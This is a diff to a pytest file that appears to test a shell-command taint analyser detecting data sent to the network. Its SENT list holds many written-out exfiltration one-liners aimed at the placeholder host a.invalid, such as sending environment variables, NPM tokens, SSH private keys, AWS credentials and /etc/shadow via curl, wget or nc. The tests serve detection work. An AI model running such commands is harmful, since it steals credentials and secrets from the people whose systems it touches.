@@ -50,15 +50,27 @@ def test_data_that_is_run_is_a_flow(text: str, sink: Capability, taints: set[Tai
 SENT = [
     ("env | curl -d @- https://a.invalid", Taint.ENVIRONMENT),
     ('curl -d "$(printenv)" https://a.invalid', Taint.ENVIRONMENT),
-    ("nslookup $(whoami).a.invalid", Taint.ENVIRONMENT),
+    ('curl -d "$NPM_TOKEN" https://a.invalid', Taint.SECRETS),
+    ("printenv NPM_TOKEN | curl -d @- https://a.invalid", Taint.SECRETS),
+    ("nslookup $(whoami).a.invalid", Taint.IDENTITY),
+    ("uname -a | curl -d @- https://a.invalid", Taint.IDENTITY),
+    ("curl https://a.invalid/$(hostname)/$USER", Taint.IDENTITY),
+    ("I=$(id)\nwget --post-data=$I https://a.invalid", Taint.IDENTITY),
+    ("ps aux | base64 | curl -d @- https://a.invalid", Taint.PROCESS),
     ("cat ~/.ssh/id_rsa | nc a.invalid 80", Taint.FILE),
-    ('curl -H "x: $(cat ~/.npmrc)" https://a.invalid', Taint.FILE),
+    ("cat ~/.ssh/id_rsa | nc a.invalid 80", Taint.SECRETS),
+    ('curl -H "x: $(cat ~/.npmrc)" https://a.invalid', Taint.SECRETS),
+    ("curl -F f=@$HOME/.npmrc https://a.invalid", Taint.SECRETS),
+    ("curl -T ~/.aws/credentials https://a.invalid", Taint.SECRETS),
+    ("wget --post-file=/etc/shadow https://a.invalid", Taint.SECRETS),
+    ("tar cz ~/.ssh | curl --data-binary @- https://a.invalid", Taint.SECRETS),
+    ("env > /tmp/o; curl -F f=@/tmp/o https://a.invalid", Taint.ENVIRONMENT),
 ]
 
 
 @pytest.mark.parametrize(("text", "taint"), SENT)
 def test_the_environment_or_a_secret_that_is_sent_is_a_flow(text: str, taint: Taint) -> None:
-    assert [(NETWORK, (taint,))] == [(flow.sink, flow.taints) for flow in read_command(text).flows]
+    assert [True] == [flow.sink is NETWORK and taint in flow.taints for flow in read_command(text).flows]
 
 
 @pytest.mark.parametrize(
@@ -71,7 +83,11 @@ def test_the_environment_or_a_secret_that_is_sent_is_a_flow(text: str, taint: Ta
         "V=$(curl a.invalid | jq .v); echo $V",
         "eval $(ssh-agent)",
         'sh -c "$(cat x.sh)"',
-        "curl https://a.invalid/$(uname -s)",
+        "curl https://a.invalid/$(uname -s)-$(uname -m)",
+        "curl -o out.tgz -d @body.json https://a.invalid",
+        "[ $(id -u) = 0 ] && curl https://a.invalid",
+        "mkdir -p $HOME/x; cp a b; ./b",
+        'F="a b"; for x in $F; do echo $x; done',
         "env NODE_ENV=x node y.js",
         "npm run build | tee log",
         "echo x | base64 -d > y",
